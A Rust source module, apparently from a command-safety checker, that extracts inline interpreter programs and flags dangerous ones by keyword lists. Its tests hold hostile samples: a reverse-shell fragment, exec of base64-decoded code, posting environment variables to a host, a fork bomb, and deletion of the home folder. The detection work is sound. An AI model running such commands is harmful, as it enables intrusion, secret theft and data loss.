//! Programs that stand in a command's words (`python3 -c '…'`, `awk '…'`) or in the text it is given.
//!
//! What such a program does cannot be told, and is asked about. But what it names can be read: texts in quotes that are
//! secrets, commands, or everything there is to remove. [`look`] finds them, whatever the language: quotes are quotes.

use super::{Harm, sql};
use crate::shell::word::Word;

/// What a program of some language says, as far as it can be read without knowing the language.
#[derive(Debug, Default)]
pub(in crate::shell) struct Program {
    /// Texts in quotes, in order.
    pub(in crate::shell) texts: Vec<String>,
    /// It starts other programs.
    pub(in crate::shell) runs: bool,
    /// It removes files.
    pub(in crate::shell) removes: bool,
    /// It writes files.
    pub(in crate::shell) writes: bool,
    pub(in crate::shell) harm: Option<Harm>,
}

/// Whether this is an interpreter of a language that is no shell.
pub(in crate::shell) fn is_interpreter(base: &str) -> bool {
    const NAMES: [&str; 24] = [
        "perl",
        "ruby",
        "node",
        "nodejs",
        "php",
        "lua",
        "luajit",
        "awk",
        "gawk",
        "mawk",
        "nawk",
        "deno",
        "bun",
        "osascript",
        "pwsh",
        "powershell",
        "Rscript",
        "R",
        "julia",
        "tclsh",
        "groovy",
        "elixir",
        "irb",
        "ts-node",
    ];
    NAMES.contains(&base) || is_version_of(base, "python") || is_version_of(base, "pypy") || is_version_of(base, "perl")
}

fn is_version_of(base: &str, name: &str) -> bool {
    base.strip_prefix(name).is_some_and(|rest| rest.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.'))
}

/// The program that stands in the words; None: there is none, or it stands in a file.
pub(in crate::shell) fn of_words(base: &str, words: &[Word]) -> Option<String> {
    if !is_interpreter(base) {
        return None;
    }
    if matches!(base, "awk" | "gawk" | "mawk" | "nawk") {
        return of_awk(words);
    }
    let mut found = Vec::new();
    let mut words = words.iter().skip(1).map(|word| word.text.as_str());
    while let Some(word) = words.next() {
        let next_is_program = match word {
            "--eval" | "--print" | "-Command" | "eval" => true,
            "-r" => base == "php",
            "-p" => matches!(base, "node" | "nodejs" | "bun"),
            _ => {
                let cluster = word.strip_prefix('-').filter(|rest| !rest.starts_with('-'));
                match cluster.and_then(|letters| letters.find(['e', 'E', 'c']).map(|at| (letters, at))) {
                    Some((letters, at)) if at + 1 == letters.len() || letters.get(at + 1..) == Some("e") => true,
                    Some((letters, at)) if letters.len() > at + 3 => {
                        found.push(letters.get(at + 1..).unwrap_or_default().to_owned());
                        false
                    }
                    _ => false,
                }
            }
        };
        if let Some(text) = word.strip_prefix("--eval=").or_else(|| word.strip_prefix("--print=")) {
            found.push(text.to_owned());
        }
        if next_is_program {
            found.extend(words.next().map(str::to_owned));
        }
    }
    (!found.is_empty()).then(|| found.join("\n"))
}

fn of_awk(words: &[Word]) -> Option<String> {
    let mut words = words.iter().skip(1).map(|word| word.text.as_str());
    while let Some(word) = words.next() {
        match word {
            "-F" | "-v" => drop(words.next()),
            "-f" | "--file" => return None,
            "--" => return words.next().map(str::to_owned),
            word if word.starts_with('-') => {}
            word => return Some(word.to_owned()),
        }
    }
    None
}

/// Whether an interpreter reads its program from standard input.
pub(in crate::shell) fn reads_program(base: &str, words: &[Word]) -> bool {
    is_interpreter(base)
        && of_words(base, words).is_none()
        && words.iter().skip(1).all(|word| {
            word.text == "-" || (word.text.starts_with('-') && word.text != "-m" && !word.text.contains("version"))
        })
}

/// What a program says.
pub(in crate::shell) fn look(program: &str) -> Program {
    let program = program.get(..program.floor_char_boundary(PROGRAM_MAX)).unwrap_or_default();
    let has = |words: &[&str]| words.iter().any(|word| program.contains(word));
    let texts = texts(program);
    let runs = has(&RUNS) || program.contains('`');
    let harm = harm(program, &texts);
    Program { texts, runs, removes: has(&REMOVES), writes: has(&WRITES), harm }
}

fn harm(program: &str, texts: &[String]) -> Option<Harm> {
    let has = |words: &[&str]| words.iter().any(|word| program.contains(word));
    let evaluates = has(&[
        "exec(",
        "eval(",
        "eval ",
        "system(",
        "os.system",
        "Function(",
        "instance_eval",
        "compile(",
        "execSync",
        "popen",
    ]);
    let fetches = has(&[
        "urlopen",
        "requests.get",
        "requests.post",
        "http.get",
        "https.get",
        "fetch(",
        "LWP::Simple",
        "open-uri",
        "URI.open",
        "Net::HTTP",
        "file_get_contents('http",
        "file_get_contents(\"http",
    ]);
    let decodes = has(&[
        "b64decode",
        "fromhex",
        "unhexlify",
        "atob(",
        "'base64'",
        "\"base64\"",
        "decode_base64",
        "base64_decode",
        "unpack('m",
        "unpack(\"m",
        "zlib.decompress",
        "codecs.decode",
        "marshal.loads",
        "gzinflate",
        "decode64",
    ]);
    let sockets = has(&[
        "socket",
        "fsockopen",
        "TCPSocket",
        "net.connect",
        "net.Socket",
        "createConnection",
        "use Socket",
        "IO::Socket",
        "/inet/tcp",
        "Socket.",
    ]);
    let shells = has(&["/bin/sh", "/bin/bash", "/bin/zsh", "bash -i", "sh -i", "pty.spawn", "dup2", "cmd.exe"]);
    let environment = has(&["os.environ", "process.env", "%ENV", "ENV.to", "$_ENV", "ENVIRON", "Deno.env"]);
    // `os.environ["API_TOKEN"]`, `process.env.API_TOKEN`
    let names = program.split(|letter: char| !letter.is_ascii_alphanumeric() && letter != '_');
    let prints = has(&["print", "console.log", "puts", "echo", "say ", "stdout"]);
    if environment
        && prints
        && names
            .filter(|name| name.contains('_') && !name.bytes().any(|b| b.is_ascii_lowercase()))
            .any(super::secrets::is_secret_name)
    {
        return Some(Harm::tells_secrets("its program prints a variable that usually holds a secret"));
    }
    let forks = has(&["fork"]) && has(&["while", "for(;;)", "for (;;)", "loop"]);
    if sockets && shells {
        return Some(Harm::runs_unseen("its program connects a shell to another machine"));
    }
    if evaluates && (decodes || fetches) {
        return Some(Harm::runs_unseen("its program runs what it fetches or decodes"));
    }
    if environment && (fetches || sockets || has(&["http", "urllib", "requests."])) && !program.contains("localhost") {
        return Some(Harm::sends_out("its program may send variables of the environment out"));
    }
    if forks {
        return Some(Harm::exhausts("its program starts processes without end"));
    }
    // a directory of someone's home or the root, whole
    let removal = REMOVES.iter().filter_map(|name| program.find(name).map(|at| at + name.len()));
    for at in removal {
        let after = program.get(at..).unwrap_or_default().trim_start_matches(['(', ' ', '\'', '"', ':', 's', 'S']);
        if [
            "Path.home())",
            "os.homedir())",
            "os.homedir(),",
            "Path.home(),",
            "Dir.home)",
            "Dir.home,",
            "ENV['HOME'])",
            "process.env.HOME,",
            "process.env.HOME)",
            "os.environ['HOME'])",
            "$HOME",
        ]
        .iter()
        .any(|home| {
            after.starts_with(home) || after.starts_with(&format!("require('os').{}", home.trim_start_matches("os.")))
        }) {
            return Some(Harm::destroys("its program removes a whole home folder"));
        }
    }
    let asks_a_database = has(&["execute", "query(", "connect("]);
    texts.iter().find_map(|text| sql::destroys(text).filter(|_| asks_a_database)).map(Harm::removes)
}

/// Texts in quotes. A backslash takes the letter behind it along.
fn texts(program: &str) -> Vec<String> {
    let mut texts = Vec::new();
    let mut letters = program.chars();
    while let Some(letter) = letters.next() {
        if !matches!(letter, '\'' | '"' | '`') {
            continue;
        }
        let mut text = String::new();
        // what is never closed, such as the apostrophe of a remark, hides nothing: go on behind it
        let from = letters.clone();
        let mut closed = false;
        while let Some(inside) = letters.next() {
            match inside {
                '\\' => match letters.next() {
                    Some('n') => text.push('\n'),
                    Some(escaped) => text.push(escaped),
                    None => {}
                },
                inside if inside == letter => {
                    closed = true;
                    break;
                }
                inside => text.push(inside),
            }
        }
        if !closed {
            letters = from;
            continue;
        }
        if !text.is_empty() && texts.len() < TEXTS_MAX {
            texts.push(text);
        }
        if texts.len() >= TEXTS_MAX {
            break;
        }
    }
    let left = TEXTS_MAX - texts.len();
    texts.extend(quoted_words(program).take(left));
    texts
}

/// Words between the brackets of `qw(rm -rf /)`, as one text.
fn quoted_words(program: &str) -> impl Iterator<Item = String> {
    program.match_indices("qw").filter_map(|(at, _)| {
        let rest = program.get(at + 2..)?.trim_start();
        let open = rest.chars().next()?;
        let close = match open {
            '(' => ')',
            '[' => ']',
            '{' => '}',
            '<' => '>',
            '/' | '|' | '!' => open,
            _ => return None,
        };
        Some(rest.get(1..)?.split_once(close)?.0.to_owned())
    })
}

/// Calls that start programs.
const RUNS: [&str; 18] = [
    "system",
    "popen",
    "Popen",
    "subprocess",
    "exec",
    "spawn",
    "check_output",
    "check_call",
    "qx",
    "child_process",
    "%x",
    "shell_exec",
    "passthru",
    "proc_open",
    "do shell script",
    "Open3",
    "Kernel",
    "Deno.Command",
];
/// Calls that remove files.
const REMOVES: [&str; 18] = [
    "rmtree",
    "rmSync",
    "rmdirSync",
    "unlinkSync",
    "unlink",
    "rm_rf",
    "rm_r",
    "os.remove",
    "os.rmdir",
    "removedirs",
    "removeSync",
    "rimraf",
    "File.delete",
    "fs.rm",
    "remove_tree",
    "delete_recursive",
    "Deno.remove",
    "shutil.move",
];
/// Calls that write files.
const WRITES: [&str; 19] = [
    "'w'",
    "\"w\"",
    "'a'",
    "\"a\"",
    "'wb'",
    "\"wb\"",
    "'ab'",
    "\"ab\"",
    "writeFile",
    "appendFile",
    "write_text",
    "write_bytes",
    "File.write",
    "file_put_contents",
    "'>",
    "\">",
    "createWriteStream",
    "Deno.write",
    "truncate",
];
const TEXTS_MAX: usize = 64;
/// Bytes of a program that are looked at.
const PROGRAM_MAX: usize = 64 * 1024;

#[cfg(test)]
mod tests {
    use super::*;
    use crate::shell::word::Kind;

    fn words(text: &str) -> Vec<Word> {
        text.split('|').map(|text| Word { text: text.to_owned(), kind: Kind::Literal }).collect()
    }

    #[test]
    fn programs_are_found_in_words() {
        for (line, program) in [
            ("python3|-c|x", Some("x")),
            ("python3|-Ic|x", Some("x")),
            ("python3.12|-u|-c|x|y", Some("x")),
            ("perl|-ne|x|file", Some("x")),
            ("perl|-pi|-e|x", Some("x")),
            ("perl|-e|a|-e|b", Some("a\nb")),
            ("ruby|-rjson|-e|x", Some("x")),
            ("node|-e|x", Some("x")),
            ("node|-pe|x", Some("x")),
            ("node|--eval=x", Some("x")),
            ("php|-r|x", Some("x")),
            ("awk|-F|,|x|file", Some("x")),
            ("awk|-f|x", None),
            ("deno|eval|x", Some("x")),
            ("python3|x.py", None),
            ("cat|-e|x", None),
        ] {
            let words = words(line);
            assert_eq!(of_words(&words[0].text, &words).as_deref(), program, "{line}");
        }
    }

    #[test]
    fn texts_in_quotes_are_found_in_any_language() {
        assert_eq!(texts("f('a', \"b\\\"c\", `d`) # it's"), ["a", "b\"c", "d"]);
        assert!(texts(&"'".repeat(100_001)).len() <= TEXTS_MAX);
    }

    #[test]
    fn what_programs_do_to_others_is_seen() {
        for program in [
            "import socket,os;s=socket.socket();os.dup2(s.fileno(),0)",
            "exec(__import__('base64').b64decode('aWQ='))",
            "eval(fetch('http://x'))",
            "import os,urllib.request as u;u.urlopen('http://x',str(os.environ).encode())",
            "fork while fork",
            "import shutil,pathlib;shutil.rmtree(Path.home())",
            "cursor.execute('DROP TABLE users')",
        ] {
            assert!(look(program).harm.is_some(), "{program}");
        }
        for program in
            ["print(1+1)", "import json,sys;print(json.load(sys.stdin)['a'])", "console.log(process.version)"]
        {
            assert_eq!(look(program).harm, None, "{program}");
        }
    }
}
